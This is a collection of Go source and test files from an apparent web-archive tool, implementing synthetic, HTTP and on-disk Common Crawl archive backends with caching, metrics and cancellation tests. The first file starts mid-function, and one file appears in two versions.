	if b, ok := a.cache[key]; ok {
		a.mu.Unlock()
		return b, nil
	}
	a.mu.Unlock()

	b := a.render(snap, domain)

	a.mu.Lock()
	if len(a.cache) >= a.cacheCap {
		a.cache = make(map[string]*domainBlob)
	}
	a.cache[key] = b
	a.mu.Unlock()
	return b, nil
}

// render builds the per-domain WARC blob and its index records.
func (a *SyntheticArchive) render(snap corpus.Snapshot, domain string) *domainBlob {
	b := &domainBlob{}
	n := a.g.PageCount(domain, snap)
	if n == 0 {
		return b
	}
	var buf bytes.Buffer
	w := warc.NewWriter(&buf)
	filename := blobName(snap.ID, domain)
	for i := 0; i < n; i++ {
		status, ctype, body := a.g.PageHTTP(domain, snap, i)
		url := a.g.PageURL(domain, i)
		block := warc.BuildHTTPResponse(status, ctype, body)
		rec := warc.NewResponse(url, snap.Date, block)
		rec.Headers.Set(warc.HeaderPayloadType, mimeOf(ctype))
		off, length, err := w.Write(rec)
		if err != nil {
			// bytes.Buffer writes cannot fail; a failure here is a bug.
			panic(err)
		}
		b.records = append(b.records, &cdx.Record{
			SURT:      cdx.SURT(url),
			Timestamp: cdx.Timestamp(snap.Date),
			URL:       url,
			MIME:      mimeOf(ctype),
			Status:    status,
			Length:    length,
			Offset:    off,
			Filename:  filename,
		})
	}
	b.data = buf.Bytes()
	return b
}

// Query returns the domain's captures in the crawl, HTML first (mirroring
// the paper's MIME-filtered index queries), capped at limit.
func (a *SyntheticArchive) Query(_ context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	b, err := a.blob(crawl, domain)
	if err != nil {
		return nil, err
	}
	recs := b.records
	sorted := append([]*cdx.Record(nil), recs...)
	sort.SliceStable(sorted, func(i, j int) bool {
		hi := sorted[i].MIME == "text/html"
		hj := sorted[j].MIME == "text/html"
		if hi != hj {
			return hi
		}
		return sorted[i].SURT < sorted[j].SURT
	})
	if limit > 0 && len(sorted) > limit {
		sorted = sorted[:limit]
	}
	return sorted, nil
}

// ReadRange slices the (re)generated blob.
func (a *SyntheticArchive) ReadRange(_ context.Context, filename string, offset, length int64) ([]byte, error) {
	crawl, domain, ok := splitBlobName(filename)
	if !ok {
		// A filename this archive never handed out cannot succeed on
		// retry.
		return nil, resilience.Permanent(fmt.Errorf("commoncrawl: bad synthetic filename %q", filename))
	}
	b, err := a.blob(crawl, domain)
	if err != nil {
		return nil, err
	}
	if offset < 0 || offset+length > int64(len(b.data)) {
		// Out-of-range offsets come from a stale or corrupt index entry;
		// retrying the same read cannot help.
		return nil, resilience.Permanent(fmt.Errorf("commoncrawl: range [%d,%d) outside %q (%d bytes)",
			offset, offset+length, filename, len(b.data)))
	}
	return b.data[offset : offset+length], nil
}
