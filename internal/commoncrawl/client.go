package commoncrawl

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
)

// HTTPError is a non-2xx response from the archive server. It exposes
// the status code (resilience.StatusCoder), so the pipeline's error
// classifier can retry 5xx/429 and permanently skip 404s without
// string-matching.
type HTTPError struct {
	Code int
	Op   string
	Body string
}

// Error renders the failure with its status and response snippet.
func (e *HTTPError) Error() string {
	return fmt.Sprintf("commoncrawl: %s: status %d: %s", e.Op, e.Code, e.Body)
}

// HTTPStatus returns the response status code.
func (e *HTTPError) HTTPStatus() int { return e.Code }

// Client talks to a Server over HTTP and itself satisfies Archive, so the
// crawl pipeline runs identically in-process and across the network.
type Client struct {
	base string
	hc   *http.Client
}

var _ Archive = (*Client)(nil)

// NewClient returns a client for the server at base (e.g.
// "http://127.0.0.1:8087").
func NewClient(base string) *Client {
	return &Client{
		base: base,
		hc: &http.Client{
			Timeout: 60 * time.Second,
			Transport: &http.Transport{
				MaxIdleConnsPerHost: 64,
				IdleConnTimeout:     30 * time.Second,
			},
		},
	}
}

// Crawls lists the server's snapshots.
func (c *Client) Crawls() []string {
	resp, err := c.hc.Get(c.base + "/crawls")
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	var out []string
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil
	}
	return out
}

// Query asks the index endpoint for a domain's captures.
func (c *Client) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	u := fmt.Sprintf("%s/cc-index?crawl=%s&url=%s&limit=%d",
		c.base, url.QueryEscape(crawl), url.QueryEscape(domain), limit)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return nil, err
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return nil, &HTTPError{Code: resp.StatusCode, Op: "index query " + u, Body: string(body)}
	}
	var out []*cdx.Record
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		if len(sc.Bytes()) == 0 {
			continue
		}
		rec, err := cdx.ParseLine(sc.Text())
		if err != nil {
			return nil, err
		}
		out = append(out, rec)
	}
	return out, sc.Err()
}

// ReadRange issues a ranged GET against the data endpoint.
func (c *Client) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/data/"+filename, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Range", "bytes="+strconv.FormatInt(offset, 10)+"-"+strconv.FormatInt(offset+length-1, 10))
	resp, err := c.hc.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusPartialContent && resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return nil, &HTTPError{Code: resp.StatusCode,
			Op: fmt.Sprintf("range read %s@%d", filename, offset), Body: string(body)}
	}
	return io.ReadAll(resp.Body)
}
