package commoncrawl

import (
	"context"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/obs"
)

// instrumentedArchive wraps an Archive and counts every index query and
// ranged read by outcome, plus the raw bytes read. It sits below the
// crawler's own stage metrics: the crawler sees latencies including
// retries, this layer sees each individual archive round trip.
type instrumentedArchive struct {
	inner Archive

	queriesOK   *obs.Counter
	queriesErr  *obs.Counter
	queryRecs   *obs.Counter
	readsOK     *obs.Counter
	readsErr    *obs.Counter
	bytesServed *obs.Counter
}

// Instrument wraps a (possibly remote) archive with fetch outcome counters
// registered on reg:
//
//	commoncrawl_queries_total{outcome="ok"|"error"}
//	commoncrawl_query_records_total
//	commoncrawl_reads_total{outcome="ok"|"error"}
//	commoncrawl_read_bytes_total
func Instrument(a Archive, reg *obs.Registry) Archive {
	return &instrumentedArchive{
		inner:       a,
		queriesOK:   reg.Counter(`commoncrawl_queries_total{outcome="ok"}`),
		queriesErr:  reg.Counter(`commoncrawl_queries_total{outcome="error"}`),
		queryRecs:   reg.Counter("commoncrawl_query_records_total"),
		readsOK:     reg.Counter(`commoncrawl_reads_total{outcome="ok"}`),
		readsErr:    reg.Counter(`commoncrawl_reads_total{outcome="error"}`),
		bytesServed: reg.Counter("commoncrawl_read_bytes_total"),
	}
}

var _ Archive = (*instrumentedArchive)(nil)

func (a *instrumentedArchive) Crawls() []string { return a.inner.Crawls() }

func (a *instrumentedArchive) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	recs, err := a.inner.Query(ctx, crawl, domain, limit)
	if err != nil {
		a.queriesErr.Inc()
		return nil, err
	}
	a.queriesOK.Inc()
	a.queryRecs.Add(uint64(len(recs)))
	return recs, nil
}

func (a *instrumentedArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	data, err := a.inner.ReadRange(ctx, filename, offset, length)
	if err != nil {
		a.readsErr.Inc()
		return nil, err
	}
	a.readsOK.Inc()
	a.bytesServed.Add(uint64(len(data)))
	return data, nil
}
