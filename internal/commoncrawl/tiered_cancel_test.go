package commoncrawl

// Cancellation edge cases of the tiered cache's singleflight path.
// The serving layer (internal/serve) propagates per-request deadlines
// into archive reads, which makes two scenarios routine that the batch
// pipeline never hit: a coalesced *follower* whose request dies while
// the leader's backend read is still in flight, and a *leader* whose
// own context dies mid-read. Neither may cache an error, leak the
// flight slot, or poison the key for the next caller.

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/obs"
)

// ctxBackend is a fakeBackend variant whose blocking read honors the
// caller's context, the way a real disk/network backend does.
type ctxBackend struct {
	fakeBackend
}

func (b *ctxBackend) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	b.mu.Lock()
	b.reads++
	b.mu.Unlock()
	if b.entered != nil {
		b.entered <- struct{}{}
	}
	if b.release != nil {
		select {
		case <-b.release:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	data := make([]byte, length)
	for i := range data {
		data[i] = byte(offset + int64(i))
	}
	return data, nil
}

func (a *TieredArchive) flightCount() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.flights)
}

// waitCoalesced blocks until n callers have joined in-flight reads.
func waitCoalesced(t *testing.T, a *TieredArchive, n uint64) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for a.coalesced.Value() < n {
		if time.Now().After(deadline) {
			t.Fatalf("coalesced = %d, want %d: follower never joined the flight", a.coalesced.Value(), n)
		}
		time.Sleep(time.Millisecond)
	}
}

func TestTieredFollowerCanceledMidFlight(t *testing.T) {
	backend := &fakeBackend{
		entered: make(chan struct{}, 1),
		release: make(chan struct{}),
	}
	a := NewTiered(backend, 1<<20).Instrument(obs.NewRegistry())

	leaderDone := make(chan error, 1)
	go func() {
		_, err := a.ReadRange(context.Background(), "f", 0, 64)
		leaderDone <- err
	}()
	<-backend.entered // leader is inside the backend

	fctx, fcancel := context.WithCancel(context.Background())
	followerDone := make(chan error, 1)
	go func() {
		_, err := a.ReadRange(fctx, "f", 0, 64)
		followerDone <- err
	}()
	// Wait until the follower has actually joined the flight — the
	// coalesced counter ticks exactly then. (Polling the flight map
	// only proves the *leader* registered.)
	waitCoalesced(t, a, 1)
	fcancel()
	select {
	case err := <-followerDone:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("canceled follower returned %v, want context.Canceled", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("canceled follower still blocked on the leader's flight")
	}

	// The leader is unaffected: it completes, and its result is cached.
	close(backend.release)
	if err := <-leaderDone; err != nil {
		t.Fatalf("leader failed after follower cancellation: %v", err)
	}
	if got := a.Len(); got != 1 {
		t.Fatalf("cache entries = %d, want 1 (leader's result)", got)
	}
	if got := a.flightCount(); got != 0 {
		t.Fatalf("flight slots leaked: %d", got)
	}
	// The canceled follower's retry is a pure cache hit.
	if _, err := a.ReadRange(context.Background(), "f", 0, 64); err != nil {
		t.Fatalf("retry after cancellation: %v", err)
	}
	if got := backend.readCount(); got != 1 {
		t.Fatalf("backend reads = %d, want 1 (retry must hit the cache)", got)
	}
}

func TestTieredCanceledLeaderCachesNothing(t *testing.T) {
	backend := &ctxBackend{fakeBackend{
		entered: make(chan struct{}, 1),
		release: make(chan struct{}),
	}}
	a := NewTiered(backend, 1<<20).Instrument(obs.NewRegistry())

	lctx, lcancel := context.WithCancel(context.Background())
	leaderDone := make(chan error, 1)
	go func() {
		_, err := a.ReadRange(lctx, "f", 0, 64)
		leaderDone <- err
	}()
	<-backend.entered

	// A follower joins, with a healthy context of its own.
	followerDone := make(chan error, 1)
	go func() {
		_, err := a.ReadRange(context.Background(), "f", 0, 64)
		followerDone <- err
	}()
	waitCoalesced(t, a, 1)

	lcancel()
	if err := <-leaderDone; !errors.Is(err, context.Canceled) {
		t.Fatalf("canceled leader returned %v, want context.Canceled", err)
	}
	// The follower inherited the leader's fate for THIS call — by
	// design, coalescing shares the outcome — but the error must not
	// be cached.
	if err := <-followerDone; !errors.Is(err, context.Canceled) {
		t.Fatalf("follower returned %v, want the leader's context.Canceled", err)
	}
	if got := a.Len(); got != 0 {
		t.Fatalf("cache entries = %d after a canceled read, want 0", got)
	}
	if got := a.flightCount(); got != 0 {
		t.Fatalf("flight slots leaked: %d", got)
	}

	// The key is not poisoned: a fresh caller triggers a new backend
	// read and succeeds.
	close(backend.release)
	data, err := a.ReadRange(context.Background(), "f", 0, 64)
	if err != nil || len(data) != 64 {
		t.Fatalf("read after canceled leader: len=%d err=%v", len(data), err)
	}
	if got := backend.readCount(); got != 2 {
		t.Fatalf("backend reads = %d, want 2 (one canceled, one clean)", got)
	}
	if got := a.Len(); got != 1 {
		t.Fatalf("clean read not cached: entries = %d", got)
	}
}

// TestTieredCancelChurn races many canceled followers against live
// ones across distinct keys and proves the accounting always returns
// to zero flights with exactly one backend read and one cache entry
// per key. Run under -race (make serve-chaos does).
func TestTieredCancelChurn(t *testing.T) {
	const rounds = 30
	backend := &fakeBackend{release: make(chan struct{})}
	close(backend.release) // never block; contention comes from goroutines
	a := NewTiered(backend, 8<<20)
	for r := 0; r < rounds; r++ {
		file := fmt.Sprintf("f%d", r)
		var wg sync.WaitGroup
		for i := 0; i < 8; i++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				ctx := context.Background()
				if i%2 == 1 {
					var cancel context.CancelFunc
					ctx, cancel = context.WithCancel(ctx)
					cancel() // canceled before (or while) joining
				}
				_, err := a.ReadRange(ctx, file, 0, 128)
				if err != nil && !errors.Is(err, context.Canceled) {
					t.Errorf("round %d: unexpected error %v", r, err)
				}
			}(i)
		}
		wg.Wait()
		if got := a.flightCount(); got != 0 {
			t.Fatalf("round %d: flight slots leaked: %d", r, got)
		}
	}
	if got := a.Len(); got != rounds {
		t.Fatalf("cache entries = %d, want %d (one per key)", got, rounds)
	}
	// Every key is now a pure hit.
	before := backend.readCount()
	for r := 0; r < rounds; r++ {
		if _, err := a.ReadRange(context.Background(), fmt.Sprintf("f%d", r), 0, 128); err != nil {
			t.Fatal(err)
		}
	}
	if got := backend.readCount(); got != before {
		t.Fatalf("hits went to the backend: %d -> %d", before, got)
	}
}
