package commoncrawl

import (
	"context"
	"testing"

	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/obs"
)

func TestInstrumentedArchiveCountsOutcomes(t *testing.T) {
	g := corpus.New(corpus.Config{Seed: 5, Domains: 12, MaxPages: 3})
	reg := obs.NewRegistry()
	arch := Instrument(NewSynthetic(g), reg)
	crawl := arch.Crawls()[0]

	var fetched int
	for _, d := range g.Universe() {
		recs, err := arch.Query(context.Background(), crawl, d, 3)
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			if _, err := FetchCapture(context.Background(), arch, rec); err != nil {
				t.Fatal(err)
			}
			fetched++
		}
	}
	if fetched == 0 {
		t.Fatal("no captures fetched — counters untested")
	}
	if got, want := reg.Counter(`commoncrawl_queries_total{outcome="ok"}`).Value(),
		uint64(len(g.Universe())); got != want {
		t.Errorf("queries ok = %d, want %d", got, want)
	}
	if got := reg.Counter(`commoncrawl_reads_total{outcome="ok"}`).Value(); got != uint64(fetched) {
		t.Errorf("reads ok = %d, want %d", got, fetched)
	}
	if reg.Counter("commoncrawl_read_bytes_total").Value() == 0 {
		t.Error("read bytes = 0")
	}

	// Error outcomes land on the error series, not the ok one.
	if _, err := arch.Query(context.Background(), "no-such-crawl", "x.example", 1); err == nil {
		t.Fatal("bogus crawl query succeeded")
	}
	if got := reg.Counter(`commoncrawl_queries_total{outcome="error"}`).Value(); got != 1 {
		t.Errorf("queries error = %d, want 1", got)
	}
	if _, err := arch.ReadRange(context.Background(), "bogus-file", 0, 10); err == nil {
		t.Fatal("bogus read succeeded")
	}
	if got := reg.Counter(`commoncrawl_reads_total{outcome="error"}`).Value(); got != 1 {
		t.Errorf("reads error = %d, want 1", got)
	}
}
