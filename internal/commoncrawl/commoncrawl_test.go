package commoncrawl

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/warc"
)

func synthetic(t *testing.T) *SyntheticArchive {
	t.Helper()
	return NewSynthetic(corpus.New(corpus.Config{Seed: 3, Domains: 40, MaxPages: 4}))
}

func TestSyntheticQueryAndFetch(t *testing.T) {
	arch := synthetic(t)
	crawls := arch.Crawls()
	if len(crawls) != 8 || crawls[0] != "CC-MAIN-2015-14" {
		t.Fatalf("crawls = %v", crawls)
	}
	g := arch.Generator()
	snap := corpus.Snapshots[2]
	var domain string
	for _, d := range g.Universe() {
		if g.PageCount(d, snap) >= 2 && g.Succeeds(d, snap) {
			domain = d
			break
		}
	}
	recs, err := arch.Query(context.Background(), snap.ID, domain, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != g.PageCount(domain, snap) {
		t.Fatalf("records = %d, want %d", len(recs), g.PageCount(domain, snap))
	}
	for _, rec := range recs {
		cap, err := FetchCapture(context.Background(), arch, rec)
		if err != nil {
			t.Fatalf("fetch %s: %v", rec.URL, err)
		}
		if cap.URL != rec.URL {
			t.Fatalf("capture URL %q vs record %q", cap.URL, rec.URL)
		}
		if cap.Status == 200 && cap.MIME == "text/html" && len(cap.Body) == 0 {
			t.Fatalf("empty HTML body for %s", rec.URL)
		}
	}
	// HTML records must sort first (the MIME-filtered collection).
	limited, err := arch.Query(context.Background(), snap.ID, domain, 1)
	if err != nil || len(limited) != 1 {
		t.Fatalf("limit: %v %v", limited, err)
	}

	if _, err := arch.Query(context.Background(), "CC-MAIN-1999-01", domain, 0); err == nil {
		t.Fatal("unknown crawl accepted")
	}
	if _, err := arch.ReadRange(context.Background(), "nonsense", 0, 10); err == nil {
		t.Fatal("bad filename accepted")
	}
	if _, err := arch.ReadRange(context.Background(), recs[0].Filename, 1<<40, 10); err == nil {
		t.Fatal("out-of-range read accepted")
	}
}

func TestSyntheticDeterministic(t *testing.T) {
	a := synthetic(t)
	b := synthetic(t)
	snap := corpus.Snapshots[0]
	d := a.Generator().Universe()[0]
	ra, err := a.Query(context.Background(), snap.ID, d, 0)
	if err != nil {
		t.Fatal(err)
	}
	rb, err := b.Query(context.Background(), snap.ID, d, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(ra) != len(rb) {
		t.Fatalf("lengths differ: %d vs %d", len(ra), len(rb))
	}
	for i := range ra {
		if *ra[i] != *rb[i] {
			t.Fatalf("record %d differs: %+v vs %+v", i, ra[i], rb[i])
		}
	}
}

func TestServerEndpoints(t *testing.T) {
	arch := synthetic(t)
	srv := httptest.NewServer(NewServer(arch))
	defer srv.Close()
	client := NewClient(srv.URL)

	crawls := client.Crawls()
	if len(crawls) != 8 {
		t.Fatalf("crawls = %v", crawls)
	}

	g := arch.Generator()
	d := g.Universe()[1]
	snap := corpus.Snapshots[0]
	recs, err := client.Query(context.Background(), snap.ID, d, 3)
	if err != nil {
		t.Fatal(err)
	}
	direct, _ := arch.Query(context.Background(), snap.ID, d, 3)
	if len(recs) != len(direct) {
		t.Fatalf("http %d vs direct %d", len(recs), len(direct))
	}
	for i := range recs {
		capH, err := FetchCapture(context.Background(), client, recs[i])
		if err != nil {
			t.Fatal(err)
		}
		capD, err := FetchCapture(context.Background(), arch, direct[i])
		if err != nil {
			t.Fatal(err)
		}
		if string(capH.Body) != string(capD.Body) || capH.MIME != capD.MIME {
			t.Fatalf("capture %d differs over HTTP", i)
		}
	}

	// Error paths.
	resp, err := http.Get(srv.URL + "/cc-index?crawl=&url=")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("missing params -> %d", resp.StatusCode)
	}
	resp, err = http.Get(srv.URL + "/cc-index?crawl=NOPE&url=x.example")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown crawl -> %d", resp.StatusCode)
	}
	req, _ := http.NewRequest("GET", srv.URL+"/data/"+recs[0].Filename, nil)
	resp, err = http.DefaultClient.Do(req) // no Range header
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("missing Range -> %d", resp.StatusCode)
	}
}

func TestParseRange(t *testing.T) {
	off, l, err := parseRange("bytes=10-19")
	if err != nil || off != 10 || l != 10 {
		t.Fatalf("parseRange: %d %d %v", off, l, err)
	}
	for _, bad := range []string{"", "10-19", "bytes=a-b", "bytes=9-5", "bytes=5"} {
		if _, _, err := parseRange(bad); err == nil {
			t.Errorf("no error for %q", bad)
		}
	}
}

// TestDiskArchive writes a small archive via hvgen's layout and reads it
// back through DiskArchive.
func TestDiskArchive(t *testing.T) {
	dir := t.TempDir()
	// Build a one-crawl layout manually (mirrors cmd/hvgen).
	g := corpus.New(corpus.Config{Seed: 5, Domains: 12, MaxPages: 3})
	snap := corpus.Snapshots[0]
	crawlDir := filepath.Join(dir, snap.ID)
	if err := os.MkdirAll(crawlDir, 0o755); err != nil {
		t.Fatal(err)
	}
	segPath := filepath.Join(crawlDir, "segment-0001.warc.gz")
	f, err := os.Create(segPath)
	if err != nil {
		t.Fatal(err)
	}
	w := warc.NewWriter(f)
	index := &cdx.Index{}
	total := 0
	for _, d := range g.Universe() {
		n := g.PageCount(d, snap)
		for i := 0; i < n; i++ {
			status, ctype, body := g.PageHTTP(d, snap, i)
			url := g.PageURL(d, i)
			off, length, err := w.Write(warc.NewResponse(url, snap.Date, warc.BuildHTTPResponse(status, ctype, body)))
			if err != nil {
				t.Fatal(err)
			}
			index.Add(&cdx.Record{
				SURT: cdx.SURT(url), Timestamp: cdx.Timestamp(snap.Date),
				URL: url, MIME: "text/html", Status: status,
				Length: length, Offset: off,
				Filename: snap.ID + "/segment-0001.warc.gz",
			})
			total++
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	idxFile, err := os.Create(filepath.Join(crawlDir, "index.cdxj"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := index.WriteTo(idxFile); err != nil {
		t.Fatal(err)
	}
	idxFile.Close()

	disk, err := OpenDisk(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer disk.Close()
	if got := disk.Crawls(); len(got) != 1 || got[0] != snap.ID {
		t.Fatalf("crawls = %v", got)
	}
	found := 0
	for _, d := range g.Universe() {
		recs, err := disk.Query(context.Background(), snap.ID, d, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			cap, err := FetchCapture(context.Background(), disk, rec)
			if err != nil {
				t.Fatalf("fetch %s: %v", rec.URL, err)
			}
			// Disk reads must agree with direct generation.
			_, _, want := g.PageHTTP(d, snap, pageIndexOf(rec.URL))
			if cap.MIME == "text/html" && cap.Status == 200 && string(cap.Body) != string(want) {
				t.Fatalf("disk body differs for %s", rec.URL)
			}
			found++
		}
	}
	if found != total {
		t.Fatalf("found %d records, wrote %d", found, total)
	}

	if _, err := disk.ReadRange(context.Background(), "../outside", 0, 10); err == nil {
		t.Fatal("path traversal accepted")
	}
	if _, err := OpenDisk(t.TempDir()); err == nil {
		t.Fatal("empty dir accepted")
	}
}

// pageIndexOf recovers the page index from a generated URL.
func pageIndexOf(url string) int {
	if strings.HasSuffix(url, "/") {
		return 0
	}
	i := strings.LastIndexByte(url, '/')
	n := 0
	for _, c := range url[i+1:] {
		n = n*10 + int(c-'0')
	}
	return n
}
