package commoncrawl

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/resilience"
)

// DiskArchive serves a directory written by cmd/hvgen:
//
//	root/
//	  CC-MAIN-2015-14/
//	    segment-0000.warc.gz
//	    index.cdxj
//	  CC-MAIN-2016-07/
//	    ...
//
// The CDX indexes load eagerly (they are small); WARC files are read with
// ranged pread calls, the same access pattern as S3 range requests against
// the real Common Crawl.
type DiskArchive struct {
	root    string
	crawls  []string
	indexes map[string]*cdx.Index

	mu    sync.Mutex
	files map[string]*os.File
}

// OpenDisk loads the archive layout under root.
func OpenDisk(root string) (*DiskArchive, error) {
	entries, err := os.ReadDir(root)
	if err != nil {
		return nil, fmt.Errorf("commoncrawl: open disk archive: %w", err)
	}
	a := &DiskArchive{
		root:    root,
		indexes: make(map[string]*cdx.Index),
		files:   make(map[string]*os.File),
	}
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		idxPath := filepath.Join(root, e.Name(), "index.cdxj")
		f, err := os.Open(idxPath)
		if err != nil {
			continue // not a crawl directory
		}
		ix, err := cdx.Read(f)
		f.Close()
		if err != nil {
			return nil, fmt.Errorf("commoncrawl: %s: %w", idxPath, err)
		}
		a.crawls = append(a.crawls, e.Name())
		a.indexes[e.Name()] = ix
	}
	if len(a.crawls) == 0 {
		// An empty archive root is a configuration error; a crawl run
		// against it must stop outright, not retry.
		return nil, resilience.Fatal(fmt.Errorf("commoncrawl: no crawls under %s", root))
	}
	sort.Strings(a.crawls)
	return a, nil
}

// Close releases cached file handles.
func (a *DiskArchive) Close() error {
	a.mu.Lock()
	defer a.mu.Unlock()
	var first error
	for _, f := range a.files {
		if err := f.Close(); err != nil && first == nil {
			first = err
		}
	}
	a.files = make(map[string]*os.File)
	return first
}

// Crawls lists the crawl directories found.
func (a *DiskArchive) Crawls() []string { return append([]string(nil), a.crawls...) }

// Query looks the domain up in the crawl's CDX index.
func (a *DiskArchive) Query(_ context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	ix, ok := a.indexes[crawl]
	if !ok {
		// Same contract as the synthetic archive: a nonexistent snapshot
		// is a configuration error and must stop a crawl run outright.
		return nil, resilience.Fatal(fmt.Errorf("commoncrawl: unknown crawl %q", crawl))
	}
	return ix.LookupPrefix(domain, limit), nil
}

// ReadRange preads from the named WARC file. Filenames in disk indexes are
// "<crawl>/<segment>.warc.gz", relative to root.
func (a *DiskArchive) ReadRange(_ context.Context, filename string, offset, length int64) ([]byte, error) {
	if strings.Contains(filename, "..") {
		// Path traversal in an index entry is data corruption, not
		// weather: never retry it.
		return nil, resilience.Permanent(fmt.Errorf("commoncrawl: invalid filename %q", filename))
	}
	a.mu.Lock()
	f, ok := a.files[filename]
	a.mu.Unlock()
	if !ok {
		var err error
		f, err = os.Open(filepath.Join(a.root, filepath.FromSlash(filename)))
		if err != nil {
			return nil, err
		}
		a.mu.Lock()
		if prev, raced := a.files[filename]; raced {
			_ = f.Close()
			f = prev
		} else {
			a.files[filename] = f
		}
		a.mu.Unlock()
	}
	buf := make([]byte, length)
	if _, err := f.ReadAt(buf, offset); err != nil {
		return nil, fmt.Errorf("commoncrawl: read %s@%d+%d: %w", filename, offset, length, err)
	}
	return buf, nil
}
