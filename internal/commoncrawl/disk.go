package commoncrawl

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/resilience"
)

// DiskArchive serves a directory written by cmd/hvgen:
//
//	root/
//	  CC-MAIN-2015-14/
//	    segment-0000.warc.gz
//	    index.cdxj
//	  CC-MAIN-2016-07/
//	    ...
//
// The CDX indexes load eagerly (they are small); WARC files are read with
// ranged pread calls, the same access pattern as S3 range requests against
// the real Common Crawl.
type DiskArchive struct {
	root    string
	crawls  []string
	indexes map[string]*cdx.Index

	mu      sync.Mutex
	files   map[string]*fdEntry
	maxOpen int
	tick    uint64
}

// fdEntry is one cached file handle. refs counts in-flight reads so
// eviction never closes a descriptor mid-pread; stamp orders idle
// entries for LRU victim selection.
type fdEntry struct {
	f     *os.File
	refs  int
	stamp uint64
}

// defaultMaxOpenFDs bounds the handle cache. A crawl touches one
// segment file per (crawl, shard) at a time, so 64 is generous while
// staying far under typical rlimit defaults even with several
// archives open in one process.
const defaultMaxOpenFDs = 64

// OpenDisk loads the archive layout under root.
func OpenDisk(root string) (*DiskArchive, error) {
	entries, err := os.ReadDir(root)
	if err != nil {
		return nil, fmt.Errorf("commoncrawl: open disk archive: %w", err)
	}
	a := &DiskArchive{
		root:    root,
		indexes: make(map[string]*cdx.Index),
		files:   make(map[string]*fdEntry),
		maxOpen: defaultMaxOpenFDs,
	}
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		idxPath := filepath.Join(root, e.Name(), "index.cdxj")
		f, err := os.Open(idxPath)
		if err != nil {
			continue // not a crawl directory
		}
		ix, err := cdx.Read(f)
		f.Close()
		if err != nil {
			return nil, fmt.Errorf("commoncrawl: %s: %w", idxPath, err)
		}
		a.crawls = append(a.crawls, e.Name())
		a.indexes[e.Name()] = ix
	}
	if len(a.crawls) == 0 {
		// An empty archive root is a configuration error; a crawl run
		// against it must stop outright, not retry.
		return nil, resilience.Fatal(fmt.Errorf("commoncrawl: no crawls under %s", root))
	}
	sort.Strings(a.crawls)
	return a, nil
}

// Close releases cached file handles, in-use ones included — it is a
// shutdown call, and any read still in flight fails with a closed-file
// error rather than leaking the descriptor.
func (a *DiskArchive) Close() error {
	a.mu.Lock()
	defer a.mu.Unlock()
	var first error
	for _, e := range a.files {
		if err := e.f.Close(); err != nil && first == nil {
			first = err
		}
	}
	a.files = make(map[string]*fdEntry)
	return first
}

// SetMaxOpen adjusts the file-handle budget (tests and tuning). Values
// below 1 are clamped to 1.
func (a *DiskArchive) SetMaxOpen(n int) {
	if n < 1 {
		n = 1
	}
	a.mu.Lock()
	a.maxOpen = n
	a.mu.Unlock()
}

// OpenFiles reports how many descriptors the cache currently holds.
func (a *DiskArchive) OpenFiles() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.files)
}

// Crawls lists the crawl directories found.
